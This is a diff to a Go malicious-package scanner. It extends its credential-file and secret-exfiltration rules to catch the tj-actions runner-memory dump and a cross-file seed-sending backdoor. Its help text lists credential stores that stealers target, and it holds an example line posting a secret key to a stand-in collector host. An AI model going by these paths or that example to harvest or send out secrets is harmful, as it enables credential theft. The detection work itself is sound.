@@ -274,7 +274,7 @@ type FileAccess struct{}
 // Meta implements analyze.Rule.
 func (FileAccess) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "cred/file-access", Version: 13, Title: "Reads credential files",
+		ID: "cred/file-access", Version: 14, Title: "Reads credential files",
 		Help: "The code names a credential store: SSH keys, cloud CLI credentials, .npmrc, browser profiles (Login Data, Cookies, Local Storage), " +
 			"crypto wallet files and extension IDs, Discord token storage, /etc/shadow. Stealers enumerate exactly these paths. A file that " +
 			"also honours the store's own override variable (AWS_SHARED_CREDENTIALS_FILE, KUBECONFIG, CLOUDSDK_CONFIG...) implements that " +
@@ -289,7 +289,8 @@ func (FileAccess) Meta() analyze.Meta {
 			"in an argument array); asking it for another application's key (\"Chrome Safe Storage\", which decrypts that browser's cookies " +
 			"and passwords) is high anywhere. A CI runner's memory (/proc/<pid>/mem, Runner.Worker, \"isSecret\":true) counts as a credential store, and a file " +
 			"that opens another process's memory and looks for Runner.Worker or \"isSecret\":true in it is critical (the tj-actions " +
-			"secret dump). The cloud " +
+			"secret dump), as is one that names Runner.Worker, starts a process (the helper that reads the memory) and searches for " +
+			"\"isSecret\":true. The cloud " +
 			"instance metadata services' credential paths (AWS's iam/security-credentials, GCP's service-accounts), a " +
 			"Kubernetes service-account token and the GitHub CLI's hosts.yml count as credential stores; cloud SDKs that honour their " +
 			"own override variables (AWS_EC2_METADATA_DISABLED, GCE_METADATA_HOST, KUBERNETES_SERVICE_HOST…) are low. Install-time " +
@@ -406,7 +407,7 @@ func runnerMemory(f rulekit.File, r analyze.Reporter) bool {
 		}
 	}
 	if mem == nil {
-		return false
+		return runnerHelper(f, r)
 	}
 	for _, s := range f.Facts.Strings {
 		for _, marker := range []string{"Runner.Worker", `"isSecret":true`} {
@@ -416,6 +417,35 @@ func runnerMemory(f rulekit.File, r analyze.Reporter) bool {
 					Evidence: rulekit.Ev(mem.Snippet.String(), "", "")})
 				return true
 			}
+		}
+	}
+	return false
+}
+
+// runnerHelper reports a file that names the runner's Runner.Worker
+// process, starts a process (a helper that reads its memory: a python
+// script under sudo, gdb, dd) and searches for its "isSecret":true
+// records: the tj-actions dump with the reading done out of sight.
+func runnerHelper(f rulekit.File, r analyze.Reporter) bool {
+	var worker, secret *jsast.Str
+	for i := range f.Facts.Strings {
+		s := &f.Facts.Strings[i]
+		if strings.Contains(s.Value, "Runner.Worker") {
+			worker = s
+		}
+		if strings.Contains(strings.ReplaceAll(s.Value, `\"`, `"`), `"isSecret":true`) {
+			secret = s
+		}
+	}
+	if worker == nil || secret == nil {
+		return false
+	}
+	for _, c := range f.Facts.Calls {
+		if rulekit.IsSpawn(c) {
+			r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
+				Message:  fmt.Sprintf("finds the CI runner's Runner.Worker process, starts %q and searches the output for its secrets (\"isSecret\":true)", jsast.Clean(rulekit.SpawnCommand(c), 80)),
+				Evidence: rulekit.Ev(c.Snippet.String(), "", "")})
+			return true
 		}
 	}
 	return false
@@ -693,17 +723,72 @@ type SecretExfil struct{}
 // Meta implements analyze.Rule.
 func (SecretExfil) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "cred/secret-exfil", Version: 4, Title: "Sends private keys or seed phrases to the network",
+		ID: "cred/secret-exfil", Version: 5, Title: "Sends private keys or seed phrases to the network",
 		Help: "A value named like a private key, secret key, mnemonic or seed phrase is passed to a network call, or to a local function whose body " +
 			"posts to a hard-coded URL (a bare call counts only when it calls that very function: bundles reuse one-letter names, and a name " +
 			"alone would match them all). In a file that loads a wallet library (ethers, web3, bip39, @solana/web3.js…) the short names " +
 			"such code uses count too: pk, phrase, words (fromMnemonic(phrase) posting phrase); key alone is every cache's. Wallet libraries sign locally; sending key " +
 			"material anywhere is theft (the @solana/web3.js 1.95.6-7 backdoor). SECRET_KEY in upper case, as configuration spells it, is a " +
-			"service's API secret, which its SDK sends to that service to authenticate: it counts only in a file that loads a wallet library.",
+			"service's API secret, which its SDK sends to that service to authenticate: it counts only in a file that loads a wallet library. " +
+			"The sending function may live in another file of the package that the caller loads (checkValidityOfSeed(privateKey) " +
+			"in xrpl.js 4.2.1, its request in a utility module).",
 		Remediation:     "Do not use this version; move funds from any key it handled.",
 		Example:         `function q(k){ fetch("https://collector.example/q", {headers: {"x-id": k}}) } q(keypair.secretKey)`,
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigWallet, Needs: analyze.NeedCode,
 	}
+}
+
+// secretToImported reports a call, in f, of a sending function another
+// file of the package defines, handed a secret-named value:
+// checkValidityOfSeed(privateKey) with the request in utils/validate.js
+// (the xrpl.js 4.2.1 backdoor). The call is found in f's text by the
+// function's name; f must load that file.
+func secretToImported(t *analyze.Target, f analyze.CodeFile, senders map[string][]string, wallet bool, r analyze.Reporter) {
+	var src string
+	for _, im := range f.Facts.Imports {
+		g := t.Resolve(f.Name, im.Module)
+		if g == "" || g == f.Name || len(senders[g]) == 0 {
+			continue
+		}
+		if src == "" {
+			b, err := t.Read(f.Name)
+			if err != nil {
+				return
+			}
+			src = string(b[:min(len(b), rulekit.ModuleSize)])
+		}
+		for _, fn := range senders[g] {
+			for off, n := 0, 0; n < 8; n++ {
+				i := strings.Index(src[off:], fn+"(")
+				if i < 0 {
+					break
+				}
+				at := off + i
+				off = at + len(fn) + 1
+				if at > 0 && identByte(src[at-1]) {
+					continue // another name ending in fn
+				}
+				end := strings.IndexAny(src[off:], ",)")
+				if end < 0 {
+					break
+				}
+				name := strings.TrimSpace(src[off : off+end])
+				if k := strings.LastIndexByte(name, '.'); k >= 0 {
+					name = name[k+1:] // this.privateKey
+				}
+				if secretName.MatchString(name) && (wallet || !apiSecretName.MatchString(name)) || wallet && walletSecretName.MatchString(name) {
+					r.Report(analyze.Instance{File: f.Name, Line: 1 + strings.Count(src[:at], "\n"), Confidence: finding.ConfidenceHigh,
+						Message: fmt.Sprintf("passes %q to %s() of %s, which sends it to the network", name, fn, g)})
+					return
+				}
+			}
+		}
+	}
+}
+
+// identByte reports a byte that can continue a JavaScript name.
+func identByte(c byte) bool {
+	return c == '_' || c == '$' || c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
 }
 
 var secretName = regexp.MustCompile(`(?i)^_?(private_?key|secret_?key|mnemonic|seed_?phrase|seed|priv_?key|wallet_?key|keypair)s?$`)
@@ -729,10 +814,20 @@ func walletLibrary(m string) bool {
 
 // Check implements analyze.Rule.
 func (SecretExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
-	for _, f := range rulekit.Code(ctx, t) {
+	code := rulekit.Code(ctx, t)
+	senders := map[string][]string{} // file -> its functions that send
+	for _, f := range code {
+		if len(f.Facts.Senders) > 0 {
+			senders[f.Name] = f.Facts.Senders
+		}
+	}
+	for _, f := range code {
 		wallet := false
 		for _, im := range f.Facts.Imports {
 			wallet = wallet || walletLibrary(im.Module)
+		}
+		if len(senders) > 0 {
+			secretToImported(t, f, senders, wallet, r)
 		}
 		for _, c := range f.Facts.Calls {
 			sender := rulekit.IsNetCall(c) || c.Sender
